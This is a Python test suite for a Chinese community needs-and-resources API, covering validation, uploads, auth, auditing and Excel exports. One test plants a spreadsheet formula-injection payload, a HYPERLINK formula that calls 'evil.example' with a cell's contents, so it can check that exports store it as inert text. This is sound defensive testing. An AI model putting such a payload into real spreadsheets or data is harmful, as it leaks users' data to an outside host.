import io
import json
import re
import zipfile

import pytest

from tests.api_helpers import BACKENDS, database, service
from tests.conftest import NEEDS, RESOURCES


@pytest.fixture(params=BACKENDS)
def svc(request, tmp_path):
    with database(request.param, tmp_path) as url, service(url) as running:
        running.load_lists()
        yield running


@pytest.fixture
def sqlite_svc(tmp_path):
    """For what the database cannot change (the cells an export writes, the schema's number rules)."""
    with database("sqlite", tmp_path) as url, service(url) as running:
        running.load_lists()
        yield running


def test_api_create_need_then_retry_is_idempotent(svc):
    need = {"id": "n-new", "title": "社区需要心理辅导讲座"}
    first = svc.call("POST", "/v1/needs", json=need)
    again = svc.call("POST", "/v1/needs", json=need)
    assert (first.status_code, again.status_code) == (201, 200)
    assert svc.call("GET", "/v1/needs").json()["total"] == len(NEEDS) + 1


def test_api_create_with_same_id_other_content_is_409(svc):
    response = svc.call("POST", "/v1/needs", json={"id": "n-care", "title": "完全不同的需求"})
    assert response.status_code == 409 and "use PATCH" in response.json()["detail"]


@pytest.mark.parametrize(("record", "field"), [
    ({"id": "r-x", "title": "场地", "capacity": 0}, "capacity"),
    ({"id": "r-x", "title": "！！！"}, "title"),
    ({"id": "r-x", "title": "场地", "grid": "G404"}, "grid"),
    ({"id": "r-x", "title": "场地", "lat": 30.5}, "lat and lon"),
    ({"id": "r-x", "title": "\x00\u200b\x08"}, "title"),  # nothing left once cleaned
    ({"id": "r-x", "title": "场地", "side": "government"}, "side"),
    ({"id": "r-x", "title": "托" * 600}, "title"),
    ({"id": "", "title": "场地"}, "id"),
])
def test_api_bad_resource_gets_422_naming_the_field_and_stores_nothing(svc, record, field):
    response = svc.call("POST", "/v1/resources", json=record)
    assert response.status_code == 422
    assert field in json.dumps(response.json(), ensure_ascii=False)
    # Beside the English detail: a stable code and, for people, the message in Chinese.
    body = response.json()
    assert body["code"] in ("invalid", "invalid_request") and re.search(r"[\u4e00-\u9fff]", body["message"])
    assert svc.call("GET", "/v1/resources").json()["total"] == len(RESOURCES)


def test_api_list_filters_and_pagination(svc):
    page = svc.call("GET", "/v1/resources", params={"limit": 2, "offset": 1}).json()
    assert (page["total"], len(page["items"]), page["offset"]) == (len(RESOURCES), 2, 1)
    care = svc.call("GET", "/v1/resources", params={"category": "托育"}).json()["items"]
    assert {r["id"] for r in care} == {"r-care", "r-care-far"}
    street = svc.call("GET", "/v1/resources", params={"street": "芳草街道"}).json()["items"]
    assert {r["id"] for r in street} == {"r-law", "r-care-far"}


def test_api_update_checks_whole_record_and_keeps_it_on_error(svc):
    bad = svc.call("PATCH", "/v1/resources/r-food", json={"capacity": 0})
    assert bad.status_code == 422
    good = svc.call("PATCH", "/v1/resources/r-food", json={"title": "社区食堂提供晚餐"})
    assert good.status_code == 200 and good.json()["title"] == "社区食堂提供晚餐"
    assert good.json()["capacity"] == 3


def test_api_update_unknown_field_is_422(svc):
    assert svc.call("PATCH", "/v1/resources/r-food", json={"taken": 3}).status_code == 422


def test_api_close_withdraws_pending_suggestions(svc):
    svc.match("n-care")
    assert svc.call("POST", "/v1/needs/n-care/close").json()["status"] == "closed"
    pending = svc.call("GET", "/v1/suggestions", params={"need_id": "n-care", "status": "pending"}).json()
    assert pending["total"] == 0


def test_api_upload_jsonl_creates_and_retry_changes_nothing(svc):
    body = "".join(json.dumps({"id": f"u{i}", "title": f"社区活动场地{i}"}, ensure_ascii=False) + "\n"
                   for i in range(3))
    files = {"file": ("more.jsonl", io.BytesIO(body.encode()), "application/jsonl")}
    assert svc.call("POST", "/v1/resources/upload", files=files).json() == {"created": 3, "unchanged": 0,
                                                                             "skipped": []}
    files = {"file": ("more.jsonl", io.BytesIO(body.encode()), "application/jsonl")}
    assert svc.call("POST", "/v1/resources/upload", files=files).json()["unchanged"] == 3


def test_api_upload_gbk_csv(svc):
    files = {"file": ("needs.csv", io.BytesIO("id,title\nu1,社区需要法律咨询\n".encode("gbk")), "text/csv")}
    assert svc.call("POST", "/v1/needs/upload", files=files).json()["created"] == 1


def test_api_pasted_control_characters_are_cleaned_at_every_door(svc):
    # Text pasted from office software: backspace, form feed, zero-width and direction marks, DEL.
    posted = svc.call("POST", "/v1/needs", json={"id": "n-paste", "title": "托\b育\u200b服务\u202e",
                                                 "description": "第一页\f第二页\x7f"})
    assert posted.status_code == 201, posted.text
    stored = svc.call("GET", "/v1/needs/n-paste").json()
    assert (stored["title"], stored["description"]) == ("托育服务", "第一页\n第二页")
    csv_text = "id,title,description\nn-csv,停车\x08位\u2060共享,说明\x0c第二段\n"
    files = {"file": ("pasted.csv", csv_text.encode("utf-8"), "text/csv")}
    assert svc.call("POST", "/v1/needs/upload", files=files).json()["created"] == 1
    assert svc.call("GET", "/v1/needs/n-csv").json()["title"] == "停车位共享"
    patched = svc.call("PATCH", "/v1/needs/n-csv", json={"title": "停车位\u200d共享\b"})
    assert patched.status_code == 200 and patched.json()["title"] == "停车位共享"


def test_api_upload_bad_record_rejects_whole_file(svc):
    body = '{"id": "u1", "title": "场地"}\n{"id": "u2", "title": "场地", "capacity": 0}\n'
    files = {"file": ("more.jsonl", io.BytesIO(body.encode()), "application/jsonl")}
    response = svc.call("POST", "/v1/resources/upload", files=files)
    assert response.status_code == 422
    assert "more.jsonl, record 2: field 'capacity'" in response.json()["detail"]
    assert svc.call("GET", "/v1/resources/u1").status_code == 404


def test_api_upload_skip_invalid_reports_skipped(svc):
    body = '{"id": "u1", "title": "场地"}\n{"id": "u2", "title": "场地", "capacity": 0}\n'
    files = {"file": ("more.jsonl", io.BytesIO(body.encode()), "application/jsonl")}
    result = svc.call("POST", "/v1/resources/upload", params={"skip_invalid": "true"}, files=files).json()
    assert result["created"] == 1 and "record 2" in result["skipped"][0]


def test_api_upload_wrong_extension_is_422(svc):
    files = {"file": ("more.txt", io.BytesIO(b"x"), "text/plain")}
    assert "expected a name ending in" in svc.call("POST", "/v1/needs/upload", files=files).json()["detail"]


def test_api_grid_with_unknown_parent_is_422(svc):
    response = svc.call("POST", "/v1/grids", json={"id": "P9", "kind": "point", "parent": "NOPE"})
    assert response.status_code == 422 and "parent" in response.json()["detail"]


def test_api_missing_key_is_401_and_says_so(svc):
    response = svc.client.get("/v1/needs")
    assert response.status_code == 401 and "missing API key" in response.json()["detail"]


def test_api_bad_key_is_401_and_says_so(svc):
    response = svc.client.get("/v1/needs", headers={"Authorization": "Bearer dj_nonsense"})
    assert response.status_code == 401 and "not recognized or revoked" in response.json()["detail"]


def test_api_revoked_key_is_401(svc):
    keys = svc.call("GET", "/v1/keys", "admin").json()
    platform_id = next(k["id"] for k in keys if k["role"] == "platform")
    assert svc.call("POST", f"/v1/keys/{platform_id}/revoke", "admin").status_code == 200
    assert svc.call("GET", "/v1/needs").status_code == 401


def test_api_staff_sees_only_its_grids(svc):
    needs = svc.call("GET", "/v1/needs", "staff").json()["items"]
    assert {n["grid"] for n in needs} <= {"P1", "P2"} and needs
    assert svc.call("GET", "/v1/needs/n-law", "staff").status_code == 403  # grid P3


def test_api_every_write_is_audited(svc):
    svc.call("PATCH", "/v1/needs/n-care", json={"description": "每周三下午"})
    entries = svc.call("GET", "/v1/audit", "analyst").json()["items"]
    assert entries[0]["action"] == "update" and entries[0]["entity_id"] == "n-care"
    assert entries[0]["actor"].startswith("platform:")


def test_api_update_null_clears_optional_and_refuses_required(svc):
    cleared = svc.call("PATCH", "/v1/resources/r-care", json={"category": None, "lat": None, "lon": None})
    assert cleared.status_code == 200 and cleared.json()["category"] == "" and cleared.json()["lat"] is None
    refused = svc.call("PATCH", "/v1/resources/r-care", json={"capacity": None})
    assert refused.status_code == 422 and "field 'capacity': expected a value" in refused.json()["detail"]


def test_api_every_list_export_reads_back_in_unchanged(svc):
    # What staff do: export a list to Excel, keep it, upload it again. Chinese headers and labels
    # (需求编号, 开放, 本街道, 企业) read back as the fields and codes they stand for.
    for kind in ("grids", "resources", "needs"):
        count = svc.call("GET", f"/v1/{kind}", "admin", params={"limit": 1}).json()["total"]
        exported = svc.call("GET", f"/v1/{kind}", "admin", params={"format": "xlsx"})
        assert exported.status_code == 200
        files = {"file": (f"{kind}.xlsx", io.BytesIO(exported.content), "application/octet-stream")}
        result = svc.call("POST", f"/v1/{kind}/upload", files=files)
        assert result.status_code == 200, result.text
        assert result.json() == {"created": 0, "unchanged": count, "skipped": []}, kind


def test_api_a_formula_title_is_text_in_every_export(sqlite_svc):
    svc = sqlite_svc
    planted = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
    need = {**NEEDS[0], "id": "n-evil", "title": planted + NEEDS[0]["title"]}
    assert svc.call("POST", "/v1/needs", json=need).status_code == 201
    (first, *_) = svc.match("n-evil")
    assert svc.call("POST", f"/v1/suggestions/{first['id']}/accept", "admin").status_code == 201  # a project too
    for path in ("/v1/needs", "/v1/suggestions", "/v1/projects", "/v1/stats"):
        exported = svc.call("GET", path, "admin", params={"format": "xlsx"})
        assert exported.status_code == 200, (path, exported.text)
        with zipfile.ZipFile(io.BytesIO(exported.content)) as book:
            xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
        assert b"<f>" not in xml and b"<f " not in xml, path
    needs = zipfile.ZipFile(io.BytesIO(svc.call("GET", "/v1/needs", "admin", params={"format": "xlsx"}).content))
    assert "HYPERLINK" in needs.read("xl/worksheets/sheet1.xml").decode()  # there, as text


SURROGATE_BODIES = ['{"id": "s1", "title": "\\ud800x"}', '{"id": "\\udfff", "title": "助餐"}',
                    '{"need": {"id": "q", "title": "\\ud83d"}}', '{"need_id": "\\ud800"}']


def test_api_a_lone_surrogate_is_a_422_never_a_500(svc):
    # Valid JSON (a \\ud800 escape) but no UTF-8 text: refused by field, echoed with U+FFFD in its place.
    headers = {**svc.headers("platform"), "content-type": "application/json"}
    for body in SURROGATE_BODIES:
        for method, path in (("POST", "/v1/needs"), ("POST", "/v1/resources"), ("POST", "/v1/grids"),
                             ("POST", "/v1/match"), ("PATCH", f"/v1/needs/{NEEDS[0]['id']}")):
            response = svc.client.request(method, path, content=body.encode(), headers=headers)
            assert response.status_code == 422, (path, body, response.text)
            response.content.decode("utf-8")  # the answer itself is UTF-8
    assert svc.call("GET", "/v1/needs", params={"limit": 1}).json()["total"] == len(NEEDS)  # nothing stored


def test_api_numbers_in_a_body_must_be_json_numbers(sqlite_svc):
    svc = sqlite_svc
    # false was stored as 0.0 and "2" taken as 2: a client mixing up fields gets told which one.
    for extra, field in (({"lat": False, "lon": 104.06}, "lat"), ({"lat": 30.6, "lon": "104.06"}, "lon"),
                         ({"capacity": "2"}, "capacity"), ({"capacity": True}, "capacity")):
        response = svc.call("POST", "/v1/resources", json={"id": "r-x", "title": "场地", **extra})
        assert response.status_code == 422 and response.json()["detail"][0]["loc"][-1] == field, extra
    response = svc.call("POST", "/v1/match", json={"need_id": NEEDS[0]["id"], "k": "5"})
    assert response.status_code == 422 and response.json()["detail"][0]["loc"][-1] == "k"
    assert svc.call("GET", "/v1/resources").json()["total"] == len(RESOURCES)
    whole = svc.call("POST", "/v1/resources", json={"id": "r-x", "title": "场地", "lat": 30, "lon": 104, "capacity": 2})
    assert whole.status_code == 201 and whole.json()["lat"] == 30.0  # an integer is a number


def test_api_every_timestamp_carries_its_zone(svc):
    # SQLite keeps no zone: reads answered "2026-12-01T18:43:47" while writes answered with one.
    created = svc.call("POST", "/v1/grids", json={"id": "G-z", "name": "时区网格"}).json()["created_at"]
    read = svc.call("GET", "/v1/grids/G-z").json()
    listed = svc.call("GET", "/v1/needs", params={"limit": 3}).json()["items"]
    for moment in (created, read["created_at"], read["updated_at"], *(n["created_at"] for n in listed)):
        assert moment.endswith(("Z", "+00:00")), moment


def test_api_list_exports_feed_duijie_match_as_they_are(sqlite_svc, tmp_path, capsys):
    # A leader's Excel files, title rows and Chinese headers included, are the CLI's input unchanged.
    from api.cli import main

    paths = {}
    for kind in ("grids", "needs", "resources"):
        paths[kind] = tmp_path / f"{kind}.xlsx"
        paths[kind].write_bytes(sqlite_svc.call("GET", f"/v1/{kind}", "admin", params={"format": "xlsx"}).content)
    out = tmp_path / "pairs.csv"
    assert main(["match", "--needs", str(paths["needs"]), "--resources", str(paths["resources"]),
                 "--grids", str(paths["grids"]), "--assign", "--quiet", "--out", str(out)]) == 0
    assert out.read_text(encoding="utf-8-sig").count("\n") > 1  # a header and pairs
